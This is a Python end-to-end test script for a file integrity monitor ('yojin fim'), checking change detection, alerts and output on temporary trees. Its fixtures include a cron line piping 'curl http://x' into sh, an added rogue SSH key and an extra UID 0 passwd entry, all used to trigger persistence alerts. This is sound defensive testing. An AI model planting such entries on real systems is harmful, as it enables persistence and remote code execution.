#!/usr/bin/env python3
"""`yojin fim` end to end on temporary trees: a baseline, one kind of change, a check, and
declarative expectations on the EVE events and the JSON summary.

Covers every change kind (content, content of the same size, mode, owner, type file->dir,
symlink retargeted, added, removed), the alerts (new set-user-ID file, cron file, systemd
unit, authorized_keys, /etc/passwd), a permission-denied subtree for an unprivileged user
(setpriv 65534), a file that vanishes between listing and opening (the test build's
YOJIN_FIM_TEST_VANISH hook), no changes -> no events, output shapes, exit codes and bad flags.

Usage: test_fim.py path/to/yojin"""
import json
import os
import shutil
import subprocess
import sys
import tempfile

BIN = sys.argv[1]
FAILURES = []


def check(cond, what):
    if not cond:
        FAILURES.append(what)
        print("FAIL:", what)


class Tree:
    def __init__(self, base, name):
        self.root = os.path.join(base, name)
        self.data = os.path.join(base, name + "-data")
        os.makedirs(self.root)
        self.env = dict(os.environ, YOJIN_DATA=self.data)

    def p(self, rel):
        return os.path.join(self.root, rel)

    def write(self, rel, text, mode=None):
        path = self.p(rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        if mode is not None:
            os.chmod(path, mode)

    def run(self, args, user=None, env=None):
        cmd = [BIN, "--lang", "en", "fim"] + args
        if user is not None:
            cmd = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups"] + cmd
        p = subprocess.run(cmd, env=env or self.env, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, timeout=120)
        return p.returncode, p.stdout.decode(), p.stderr.decode()

    def init(self, user=None, env=None):
        rc, out, err = self.run(["init", "--json", self.root], user, env)
        check(rc == 0, f"{self.root}: init exit {rc}: {err}")
        return json.loads(out) if rc == 0 else {}

    def check_(self, user=None, env=None):
        """Runs check with --eve and --json; returns (events, summary)."""
        eve = os.path.join(self.data, "eve.json")
        rc, out, err = self.run(["check", "--json", "--eve", eve], user, env)
        check(rc == 0, f"{self.root}: check exit {rc}: {err}")
        if rc != 0:
            return [], {}
        with open(eve) as f:
            events = [json.loads(line) for line in f]
        return events, json.loads(out)


def fim_events(events, path=None):
    return [e for e in events if e["event_type"] == "fim" and
            (path is None or e["fim"]["path"] == path)]


def alerts(events, sid=None):
    return [e for e in events if e["event_type"] == "alert" and
            (sid is None or e["alert"]["signature_id"] == sid)]


def expect_change(t, events, rel, change, fields=None, what=""):
    path = t.p(rel) if rel else t.root
    got = fim_events(events, path)
    check(len(got) == 1, f"{what}: exactly one fim event for {path}: {got}")
    if len(got) == 1:
        check(got[0]["fim"]["change"] == change, f"{what}: change {change}: {got[0]}")
        if fields is not None:
            check(got[0]["fim"].get("fields", []) == fields,
                  f"{what}: fields {fields}: {got[0]}")


def case(base, name, setup, change, expect):
    """A tree made by setup, a baseline, change applied, a check; expect(t, events, doc)."""
    t = Tree(base, name)
    setup(t)
    t.init()
    change(t)
    events, doc = t.check_()
    expect(t, events, doc)
    for e in events:
        check(e.get("timestamp", "").endswith("Z"), f"{name}: timestamp {e}")
    return t


def plain(t):
    t.write("a.txt", "hello\n")
    t.write("sub/b.txt", "bee\n")
    os.symlink("a.txt", t.p("link"))


def keep_mtime(path, fn):
    st = os.lstat(path)
    fn()
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns), follow_symlinks=False)


def main():
    base = tempfile.mkdtemp(prefix="yj-fim-")
    os.chmod(base, 0o755)
    try:
        # No baseline: exit 1 with the advice to run init first.
        t0 = Tree(base, "none")
        rc, out, err = t0.run(["check"])
        check(rc == 1 and "fim init" in err, f"no baseline: exit {rc}, {err}")
        for args in (["init", "--bogus"], ["check", "--nope"], ["frobnicate"], [],
                     ["check", "/etc"], ["init", "--eve", "x"]):
            rc, _, err = t0.run(args)
            check(rc == 2, f"bad usage {args}: exit {rc}")
        rc, out, _ = t0.run(["--help"])
        check(rc == 0 and "fim init" in out, "fim --help")

        # No change: no events at all, and the summary says so.
        def none_expect(t, events, doc):
            check(events == [], f"no change: no events: {events}")
            check(doc["counts"] == {"added": 0, "removed": 0, "modified": 0}, "no change counts")
            check(doc["changes"] == [] and doc["alerts"] == [], "no change lists")
            check(doc["entries"] == 5, f"entries: {doc['entries']}")
        t = case(base, "nochange", plain, lambda t: None, none_expect)
        rc, out, _ = t.run(["check"])
        check(rc == 0 and "Nothing has changed" in out, f"text no change: {out}")
        p = subprocess.run([BIN, "fim", "check"], env=t.env, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, timeout=60)
        check(p.returncode == 0 and "基準から何も変わっていません" in p.stdout.decode(),
              f"Japanese text by default: {p.stdout.decode()}")

        # A FIFO appears: type "other", recorded without being opened (no hang).
        def fifo_expect(t, ev, doc):
            got = fim_events(ev, t.p("sub/pipe"))
            check(len(got) == 1 and got[0]["fim"]["change"] == "added" and
                  got[0]["fim"]["type"] == "other", f"fifo: {got}")
        case(base, "fifo", plain, lambda t: os.mkfifo(t.p("sub/pipe")), fifo_expect)

        # Content changed (size and mtime too).
        case(base, "content", plain, lambda t: t.write("a.txt", "hello world\n"),
             lambda t, ev, doc: expect_change(t, ev, "a.txt", "modified",
                                              ["content", "size", "mtime"], "content"))
        # Same size, same mtime: only the hash tells.
        case(base, "samesize", plain,
             lambda t: keep_mtime(t.p("a.txt"), lambda: t.write("a.txt", "jello\n")),
             lambda t, ev, doc: expect_change(t, ev, "a.txt", "modified", ["content"],
                                              "same size"))
        # Mode.
        case(base, "mode", plain, lambda t: os.chmod(t.p("a.txt"), 0o600),
             lambda t, ev, doc: expect_change(t, ev, "a.txt", "modified", ["mode"], "mode"))
        # Owner (as root).
        if os.geteuid() == 0:
            case(base, "owner", plain, lambda t: os.lchown(t.p("a.txt"), 65534, 65534),
                 lambda t, ev, doc: expect_change(t, ev, "a.txt", "modified", ["owner"],
                                                  "owner"))

        # Type: file -> dir.
        def to_dir(t):
            os.unlink(t.p("sub/b.txt"))
            os.mkdir(t.p("sub/b.txt"))

        def to_dir_expect(t, ev, doc):
            got = fim_events(ev, t.p("sub/b.txt"))
            check(len(got) == 1 and got[0]["fim"]["change"] == "modified" and
                  "type" in got[0]["fim"]["fields"] and got[0]["fim"]["type"] == "dir",
                  f"type change: {got}")
        case(base, "type", plain, to_dir, to_dir_expect)

        # Symlink retargeted (never followed: its target's content is not read).
        def retarget(t):
            os.unlink(t.p("link"))
            os.symlink("sub/b.txt", t.p("link"))

        def retarget_expect(t, ev, doc):
            got = fim_events(ev, t.p("link"))
            check(len(got) == 1 and "target" in got[0]["fim"]["fields"] and
                  got[0]["fim"]["type"] == "symlink", f"retarget: {got}")
        case(base, "symlink", plain, retarget, retarget_expect)

        # Added and removed, with the JSON shape of the summary.
        def add_remove(t):
            t.write("sub/new.txt", "new\n")
            os.unlink(t.p("a.txt"))

        def add_remove_expect(t, ev, doc):
            expect_change(t, ev, "sub/new.txt", "added", [], "added")
            expect_change(t, ev, "a.txt", "removed", [], "removed")
            check(doc["counts"]["added"] == 1 and doc["counts"]["removed"] == 1,
                  f"counts: {doc['counts']}")
            ch = {c["path"]: c for c in doc["changes"]}
            check(set(ch[t.p("a.txt")].keys()) == {"path", "change", "type", "fields"},
                  f"change shape: {ch.get(t.p('a.txt'))}")
            fc = alerts(ev, 2101)
            check(len(fc) == 1 and fc[0]["alert"]["category"] == "file-change" and
                  fc[0]["alert"]["count"] == len(doc["changes"]) and
                  fc[0]["yojin"]["playbook"] == "malware" and fc[0]["yojin"]["summary"],
                  f"one gathered file-change alert: {fc}")
            ja = doc["alerts"]
            check(len(ja) == 1 and set(ja[0].keys()) == {
                "signature_id", "code", "signature", "category", "severity", "path", "change",
                "count", "summary", "advice", "playbook"}, f"JSON alert shape: {ja}")
        case(base, "addremove", plain, add_remove, add_remove_expect)

        # New set-user-ID file -> persistence alert 2103.
        def suid(t):
            t.write("sub/helper", "#!/bin/sh\n", 0o4755)

        def suid_expect(t, ev, doc):
            a = alerts(ev, 2103)
            check(len(a) == 1 and a[0]["alert"]["category"] == "persistence" and
                  a[0]["fim"]["path"] == t.p("sub/helper"), f"setuid alert: {a}")
        case(base, "suid", plain, suid, suid_expect)

        # A cron job added -> persistence 2102; a systemd unit changed -> 2102.
        def cron_setup(t):
            plain(t)
            t.write("etc/cron.d/backup", "0 3 * * * root /usr/local/bin/backup\n")
            t.write("etc/systemd/system/web.service", "[Service]\nExecStart=/bin/true\n")

        def cron(t):
            t.write("etc/cron.d/evil", "* * * * * root curl http://x | sh\n")
            t.write("etc/systemd/system/web.service", "[Service]\nExecStart=/tmp/x\n")

        def cron_expect(t, ev, doc):
            a = alerts(ev, 2102)
            paths = sorted(x["fim"]["path"] for x in a)
            check(paths == [t.p("etc/cron.d/evil"), t.p("etc/systemd/system/web.service")],
                  f"persistence alerts: {paths}")
            check(all(x["alert"]["category"] == "persistence" and
                      x["yojin"]["playbook"] == "malware" for x in a), "persistence fields")
            check(not [x for x in alerts(ev) if x["alert"]["signature_id"] == 2102 and
                       x["fim"]["path"] == t.p("etc/cron.d")],
                  "the cron folder's own mtime is no persistence alert")
        case(base, "cron", cron_setup, cron, cron_expect)

        # authorized_keys changed -> 2104; /etc/passwd changed -> account-change 2105.
        def keys_setup(t):
            t.write("home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAA alice\n")
            t.write("etc/passwd", "root:x:0:0::/root:/bin/sh\n")

        def keys(t):
            t.write("home/alice/.ssh/authorized_keys",
                    "ssh-ed25519 AAAA alice\nssh-ed25519 BBBB evil\n")
            t.write("etc/passwd", "root:x:0:0::/root:/bin/sh\nx:x:0:0::/:/bin/sh\n")

        def keys_expect(t, ev, doc):
            a = alerts(ev, 2104)
            check(len(a) == 1 and a[0]["alert"]["category"] == "persistence" and
                  a[0]["yojin"]["playbook"] == "unauthorized-access", f"authorized_keys: {a}")
            b = alerts(ev, 2105)
            check(len(b) == 1 and b[0]["alert"]["category"] == "account-change" and
                  b[0]["fim"]["path"] == t.p("etc/passwd"), f"passwd: {b}")
        case(base, "keys", keys_setup, keys, keys_expect)

        # A file that vanishes between the listing and the open: recorded, never fatal.
        t = Tree(base, "vanish")
        plain(t)
        t.write("sub/gone.txt", "bye\n")
        venv = dict(t.env, YOJIN_FIM_TEST_VANISH=t.p("sub/gone.txt"))
        doc = t.init(env=venv)
        check(any(s["path"] == t.p("sub/gone.txt") and s["reason"] == "vanished"
                  for s in doc.get("skipped", [])), f"init lists the vanished file: {doc}")
        check(doc.get("entries") == 5, f"vanished file not in the baseline: {doc.get('entries')}")
        t.write("sub/gone.txt", "again\n")
        events, doc = t.check_(env=venv)
        got = fim_events(events, t.p("sub/gone.txt"))
        check(len(got) == 1 and got[0]["fim"]["change"] == "vanished",
              f"check reports vanished: {got}")
        check(not [a for a in alerts(events) if a["fim"]["path"] == t.p("sub/gone.txt")],
              f"vanishing raises no alert: {alerts(events)}")
        check(not os.path.exists(t.p("sub/gone.txt")), "the hook removed it")

        # Permission denied, as an unprivileged user: a closed folder and an unreadable file.
        if os.geteuid() == 0:
            t = Tree(base, "denied")
            plain(t)
            t.write("closed/secret.txt", "s\n")
            t.write("open/locked.txt", "l\n", 0o600)
            os.chmod(t.p("closed"), 0o700)
            os.makedirs(t.data)
            for dirpath, dirs, files in os.walk(t.root):
                os.chown(dirpath, 0, 0)
            os.chown(t.data, 65534, 65534)
            doc = t.init(user=65534)
            reasons = {s["path"]: s["reason"] for s in doc.get("skipped", [])}
            check(reasons.get(t.p("closed")) == "unreadable" and
                  reasons.get(t.p("open/locked.txt")) == "unreadable",
                  f"unprivileged init lists what it could not read: {reasons}")
            t.write("a.txt", "changed\n")
            os.chmod(t.p("a.txt"), 0o644)
            events, doc = t.check_(user=65534)
            expect_change(t, events, "a.txt", "modified", None, "unprivileged check")
            un = [e["fim"]["path"] for e in fim_events(events)
                  if e["fim"]["change"] == "unreadable"]
            check(sorted(un) == [t.p("closed"), t.p("open/locked.txt")],
                  f"unreadable events: {un}")
            check(doc["counts"]["removed"] == 0, f"nothing in a closed folder is 'removed': "
                                                 f"{doc['counts']}")
            rc, out, _ = t.run(["check"], user=65534)
            check(rc == 0 and "Could not be looked at" in out, f"text skip list: {out}")

        # A new baseline replaces the old one for the same root.
        t = Tree(base, "replace")
        plain(t)
        t.init()
        t.write("a.txt", "new content\n")
        t.init()
        events, doc = t.check_()
        check(events == [], f"after a new init nothing is reported: {events}")
        other = Tree(base, "second")
        plain(other)
        rc, out, err = t.run(["init", other.root])
        check(rc == 0, f"second root: {err}")
        events, doc = t.check_()
        check(sorted(doc.get("roots", [])) == sorted([t.root, other.root]),
              f"both roots kept: {doc.get('roots')}")
    finally:
        shutil.rmtree(base, ignore_errors=True)
    if FAILURES:
        print(f"{len(FAILURES)} failures")
        return 1
    print("all fim checks passed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
